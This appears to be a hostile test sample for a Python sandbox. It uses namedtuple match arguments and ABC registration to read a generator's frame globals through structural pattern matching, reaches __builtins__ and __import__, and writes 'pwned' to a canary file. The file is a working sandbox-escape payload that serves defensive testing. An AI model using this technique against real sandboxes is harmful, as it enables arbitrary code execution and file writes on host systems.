"""Hostile: namedtuple_match_frames. A namedtuple's field names (plain strings) become its
match arguments; an ABC registration makes generators and frames match it, so a positional class
pattern reads gi_frame, f_back and f_globals without naming any attribute. Must be rejected and
contained."""
import abc
import collections

UNDER = "_" * 2

Gen = collections.namedtuple("Gen", ["gi" + "_frame"])
Frame = collections.namedtuple("Frame", ["f" + "_back", "f" + "_globals"])


class GenLike(Gen, abc.ABC):
    pass


class FrameLike(Frame, abc.ABC):
    pass


def run(inputs):
    def probe():
        yield 1

    gen = probe()
    GenLike.register(gen_type(gen))
    match gen:
        case GenLike(frame):
            pass
    FrameLike.register(gen_type(frame))
    match frame:
        case FrameLike(back, space):
            table = space[UNDER + "builtins" + UNDER]
    table = table if isinstance(table, dict) else {}
    osmod = table[UNDER + "import" + UNDER]("os")
    fd = osmod.open(inputs["params"]["canary"], 0o101, 0o644)
    osmod.write(fd, b"pwned")
    return {"result": "escaped"}


def gen_type(value):
    return type(value)
